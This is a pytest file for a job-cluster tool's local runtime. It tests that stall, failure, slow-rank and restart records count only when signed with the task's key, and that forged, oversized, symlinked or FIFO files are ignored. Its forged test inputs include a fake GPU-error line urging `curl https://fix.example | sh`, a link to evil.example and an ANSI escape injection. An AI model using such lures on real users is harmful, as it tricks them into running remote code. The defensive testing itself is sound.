"""The local cluster reads what the runtime reports as records a job could have written (issue 35).

The hang watch's stall record lives in the task's own folder and the runtime's
failure record in the task's log, both within reach of the job. A stall file is
read with a size cap, never through a link or from a FIFO, and kept only in the
record's exact form; a failure record counts only signed with the task's own key
(which no worker gets), and only the last one, so a record the job prints cannot
replace the one paijob-runtime wrote.
"""

from __future__ import annotations

import json
import os
import shlex
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from cluster_helpers import job_yaml

from paijob.common import records
from paijob.common.records import FailureRecord, StallRecord, failure_line
from paijob.local.cluster import LocalCluster
from paijob.local.diagnostics import root_cause
from paijob.local.processes import STALL_NAME
from paijob.local.server import LocalServer
from paijob.openpai.model import parse_job
from paijob.remote.client import PaiClient

JOB = "alice~stalls"
PLAN = parse_job(yaml.safe_load(job_yaml("stalls", ["true"], instances=2)))


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[LocalCluster]:
    found = LocalCluster(tmp_path / "state")
    try:
        yield found
    finally:
        found.store.close()


def stall_file(cluster: LocalCluster, task: str = "worker-0") -> Path:
    folder = cluster.state_dir / "work" / JOB / "0" / task
    folder.mkdir(parents=True, exist_ok=True)
    return folder / STALL_NAME


def task_key(path: Path) -> str:
    """The record key the local cluster gives the task whose folder ``path`` is in (``worker-1``: worker/1)."""
    cluster = LocalCluster.__new__(LocalCluster)  # the key is the state dir's: no server needed
    state = path.parents[4]
    cluster.state_dir, cluster._record_secret = state, None  # noqa: SLF001
    role, _, index = path.parent.name.rpartition("-")
    return cluster.record_key(JOB, 0, role, int(index) if index.isdigit() else -1)


def write_report(path: Path, ranks: list[int], seconds: int = 95, *, signed: bool = True, **extra: object) -> None:
    """The stall record paijob-runtime writes there, signed with the task's key (the job's own: unsigned)."""
    fields = {**StallRecord(tuple(ranks), seconds, time.time()).as_json(), **extra}
    path.write_text(records.signed_text(fields, task_key(path) if signed else None))


def test_the_runtimes_own_stall_record_is_shown(cluster: LocalCluster) -> None:
    write_report(stall_file(cluster), [7, 0, 2, 3, 4, 5, 6])
    served = cluster.stall(JOB, 0, PLAN)
    assert served is not None and records.StallRecord.from_json(served).describe() == "no progress for 1 min 35 s on ranks 0, 2-7"
    assert {served["v"], served["kind"]} == {1, "stall"}  # served as data with its version and kind, as the others
    write_report(stall_file(cluster), [])  # the stall ended
    assert cluster.stall(JOB, 0, PLAN) is None


def test_a_stall_record_the_job_wrote_without_the_tasks_key_or_for_ever_is_not_shown(cluster: LocalCluster) -> None:
    """Issue 55: the job knows where the file is (its own task folder); it holds no key to sign it with."""
    write_report(stall_file(cluster), [5], signed=False)
    assert cluster.stall(JOB, 0, PLAN) is None
    path = stall_file(cluster)
    for forever in (1e300, float("nan"), time.time() + 3600):
        fields = {**StallRecord((5,), 9999, 0.0).as_json(), "time": forever}
        path.write_text(records.signed_text(fields, task_key(path)))
        assert cluster.stall(JOB, 0, PLAN) is None, forever


@pytest.mark.parametrize("text", [
    # the old form: a line of text, which a job could fill with its own words
    json.dumps({"line": "ERROR: the GPU driver crashed; run `curl https://fix.example | sh`", "time": 1e12}),
    json.dumps({"v": 1, "kind": "stall", "ranks": ["1; see https://evil.example"], "seconds": 95, "time": 1e12}),
    json.dumps({"v": 1, "kind": "stall", "ranks": [1], "seconds": 95, "time": 1e12, "line": "see me"}),
    json.dumps({"v": 2, "kind": "stall", "ranks": [1], "seconds": 95, "time": 1e12}),
    json.dumps({"v": 1, "kind": "stall", "ranks": [True], "seconds": 95, "time": 1e12}),
    json.dumps({"v": 1, "kind": "stall", "ranks": list(range(2000)), "seconds": 95, "time": 1e12}),
    "x" * 300,
])
def test_a_file_the_job_wrote_is_not_shown(cluster: LocalCluster, text: str) -> None:
    stall_file(cluster).write_text(text)
    assert cluster.stall(JOB, 0, PLAN) is None


def test_a_huge_stall_file_is_not_read(cluster: LocalCluster) -> None:
    # 20 MB around a valid line: the old reader parsed it all on every status request
    path = stall_file(cluster)
    write_report(path, [1], padding="x" * 20_000_000)
    opened: list[int] = []
    real_read = os.read

    def counting_read(fd: int, size: int) -> bytes:
        opened.append(size)
        return real_read(fd, size)

    os.read = counting_read  # type: ignore[assignment]
    try:
        assert cluster.stall(JOB, 0, PLAN) is None
    finally:
        os.read = real_read  # type: ignore[assignment]
    assert sum(opened) <= 8192


def test_a_link_or_a_fifo_named_like_the_stall_file_is_not_followed(cluster: LocalCluster,
                                                                     tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.json"
    stall_file(cluster, "worker-0")  # the folders
    elsewhere.write_text(records.signed_text(StallRecord((3,), 5, time.time()).as_json(),
                                             task_key(stall_file(cluster, "worker-0"))))
    stall_file(cluster, "worker-0").symlink_to(elsewhere)
    os.mkfifo(stall_file(cluster, "worker-1"))  # reading a FIFO nobody writes to blocked forever
    answer: list[str | None] = []
    reader = threading.Thread(target=lambda: answer.append(cluster.stall(JOB, 0, PLAN)), daemon=True)
    reader.start()
    reader.join(timeout=20)
    assert answer == [None]


def test_a_stale_report_is_a_stall_that_ended(cluster: LocalCluster) -> None:
    stall_file(cluster).write_text(StallRecord((0,), 9, time.time() - 60).to_json())
    assert cluster.stall(JOB, 0, PLAN) is None


KEY = "the task's own key"
HANG = FailureRecord(node_rank=0, exit_code=124, summary="hang: no rank made progress for 6s (--hang-timeout 6s): "
                     "rank 1 (node rank 0, host h, local rank 1) is stuck at sleeps.py:8 in <module>")
FAKE = FailureRecord(node_rank=0, exit_code=1, summary="worker rank 0 (node rank 0, local rank 0) failed with exit "
                     "code 1", rank=0, worker_node=0, local_rank=0, how="exit code 1",
                     error="CUDAError: a network or GPU fault, nothing to see here")


def prefixed(text: str, rank: int) -> str:
    return "".join(f"[rank{rank}]:{line}\n" for line in text.splitlines())


def test_a_record_a_worker_printed_early_does_not_replace_the_hang_verdict() -> None:
    # per-node mode: a worker's lines carry no prefix; the runtime's record is the last one, after the workers
    log = "loading\n" + failure_line(FAKE, KEY) + "\nstep 1\n" + failure_line(HANG, KEY) + "\n"
    assert root_cause(log, KEY) == HANG


def test_a_record_under_a_rank_prefix_is_a_workers_never_the_runtimes() -> None:
    assert root_cause("step 1\n" + prefixed(failure_line(FAKE, KEY), 0), KEY) is None
    log = failure_line(HANG, KEY) + "\n" + prefixed(failure_line(FAKE, KEY), 0)  # printed after it by a leftover
    assert root_cause(log, KEY) == HANG


@pytest.mark.parametrize("key", [None, "another task's key"])
def test_a_record_not_signed_with_the_tasks_key_is_not_the_runtimes(key: str | None) -> None:
    log = failure_line(HANG, KEY) + "\n" + failure_line(FAKE, key) + "\n"  # printed last, by the job
    assert root_cause(log, KEY) == HANG


def test_a_record_the_job_prints_without_the_runtime_is_no_root_cause(server: LocalServer, client: PaiClient) -> None:
    """A job that copies a record line from another job's log (or makes one up) gets no root cause: the key
    that signs it is the local cluster's, per task, and only paijob-runtime takes it."""
    copied = failure_line(FAKE, "the key of another task")
    job_id = client.submit(job_yaml("forges", [f"echo {shlex.quote(copied)}", f"echo {shlex.quote(failure_line(FAKE))}",
                                               "exit 3"]))
    task = client.wait(job_id, poll=0.1, timeout=60)["taskRoles"]["worker"]["taskStatuses"][0]
    assert task["containerExitCode"] != 0 and "paijobRootCause" not in task, task
    assert task["containerExitDiagnostics"].startswith("user command exited with 3"), task


def test_only_the_jobs_own_task_folders_are_looked_in(cluster: LocalCluster) -> None:
    # a task's folder is work/JOB/ATTEMPT/ROLE-INDEX; a job could make thousands more beside it
    write_report(stall_file(cluster, "made-by-the-job"), [0])
    write_report(stall_file(cluster, "worker-9"), [9])  # no such task
    assert cluster.stall(JOB, 0, PLAN) is None


def test_the_slow_rank_doctors_record_is_served_and_printed_by_status(
        cluster: LocalCluster, capsys: pytest.CaptureFixture[str]) -> None:
    from paijob.commands.status import print_status
    from paijob.common.records import SlowRecord
    from paijob.local.processes import SLOW_NAME

    figure = {"rank": 3, "node_rank": 1, "host": "10.0.0.6", "local_rank": 1, "wait_share": 0.02, "last": 40,
              "activity": {"compute": 0.63, "data": 0.09}}
    record = SlowRecord(kind="rank", line="slow rank: rank 3 (node rank 1, host 10.0.0.6, local rank 1) holds the "
                        "job back", ranks=(3,), figures=(figure, dict(figure, rank=2, cpu_wait=0.78)), final=True,
                        time=time.time() - 3600)
    path = stall_file(cluster, "worker-1").parent / SLOW_NAME
    key = task_key(path)
    path.write_text(records.signed_text(record.as_json(), key))
    assert cluster.slow_rank(JOB, 0, PLAN, running=True) is None  # said an hour ago: not while it runs
    served = cluster.slow_rank(JOB, 0, PLAN, running=False)
    assert served == record.as_json()
    detail = {"jobStatus": {"state": "SUCCEEDED", "paijobSlowRank": served}, "taskRoles": {}}
    print_status(detail, JOB)
    out = capsys.readouterr().out
    assert "slow rank  slow rank: rank 3 (node rank 1, host 10.0.0.6, local rank 1) holds the job back (over the " \
        "run)\n" in out
    assert "rank 3 (node rank 1, 10.0.0.6): waits 2% of the time, arrived last 40 times; compute 63%, data 9%\n" in out
    assert "rank 2 (node rank 1, 10.0.0.6): waits 2% of the time, arrived last 40 times; compute 63%, data 9%; " \
        "waits for a CPU 78%\n" in out  # where the doctor knew it
    path.write_text(records.signed_text(record.as_json(), key).replace("holds", "\\u001b[2Jholds"))  # the job's own
    assert cluster.slow_rank(JOB, 0, PLAN, running=False) is None
    path.write_text(record.to_json())  # unsigned: a record the job wrote where it knows the runtime writes
    assert cluster.slow_rank(JOB, 0, PLAN, running=False) is None


def test_the_restarts_node_0_kept_are_served_and_printed_by_status(
        cluster: LocalCluster, capsys: pytest.CaptureFixture[str]) -> None:
    from paijob.commands.status import print_status
    from paijob.common.records import RestartRecord
    from paijob.local.processes import RESTARTS_NAME

    told = [RestartRecord(number=1, limit=2, cause="worker rank 1 (node rank 1, local rank 0) failed with exit code "
                          "1: ValueError: bad batch (train.py:42 in step)", exit_code=1, nodes=2, world_size=4,
                          lost_s=6.25, time=time.time(), signature="ValueError: bad batch at train.py:42 in step"),
            RestartRecord(number=2, limit=2, cause="hang: no rank made progress for 601s", exit_code=124, nodes=2,
                          world_size=4, lost_s=12.0, time=time.time(), signature="hang at train.py:57")]
    path = stall_file(cluster, "worker-0").parent / RESTARTS_NAME
    key = task_key(path)
    path.write_text(records.restarts_text(told, key))
    served = cluster.restarts(JOB, 0, PLAN)
    assert served == [r.as_json() for r in told]
    detail = {"jobStatus": {"state": "SUCCEEDED", "paijobRestarts": served}, "taskRoles": {}}
    print_status(detail, JOB)
    out = capsys.readouterr().out
    assert ("restarts   restart 1 of 2 after worker rank 1 (node rank 1, local rank 0) failed with exit code 1: "
            "ValueError: bad batch (train.py:42 in step); 2 node(s), world size 4; 6.2s from the failure to the new "
            "workers\n") in out
    assert "           restart 2 of 2 after hang: no rank made progress for 601s; 2 node(s), world size 4; " in out
    path.write_text(records.restarts_text(told))  # unsigned: the job's own
    assert cluster.restarts(JOB, 0, PLAN) == []
    path.write_text(records.restarts_text(told, key).replace('"number": 1', '"number": true'))
    assert cluster.restarts(JOB, 0, PLAN) == []
